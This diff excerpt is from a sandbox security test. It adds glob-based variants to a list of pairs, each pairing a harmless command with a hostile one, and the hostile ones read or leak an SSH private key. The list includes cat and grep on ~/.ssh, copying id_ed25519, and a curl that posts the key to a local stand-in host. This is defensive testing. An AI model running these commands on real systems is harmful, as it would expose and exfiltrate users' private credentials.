@@ -101,6 +101,8 @@ KEY = "PRIVATE-KEY-0123456789"
         ("cat README.md", "cat < {home}/.ssh/id_ed25519"),
         ("cat README.md", "cat .git/config"),  # unredacted outside the sandbox
         ("cat README.md", "cat notes.md"),  # a link the sandbox made: notes.md -> ~/.ssh/id_ed25519
+        ("cat README.md", "cat *"),  # the same link, found by the shell's glob at run time
+        ("cat README.md", "cat n*.md"),
         ("grep -n x README.md", "grep -r PRIVATE {home}/.ssh"),
         ("curl -s http://127.0.0.1:9/", "curl -s -d @$HOME/.ssh/id_ed25519 http://127.0.0.1:9/"),
         ("cp README.md copy.md", "cp {home}/.ssh/id_ed25519 copy.md"),
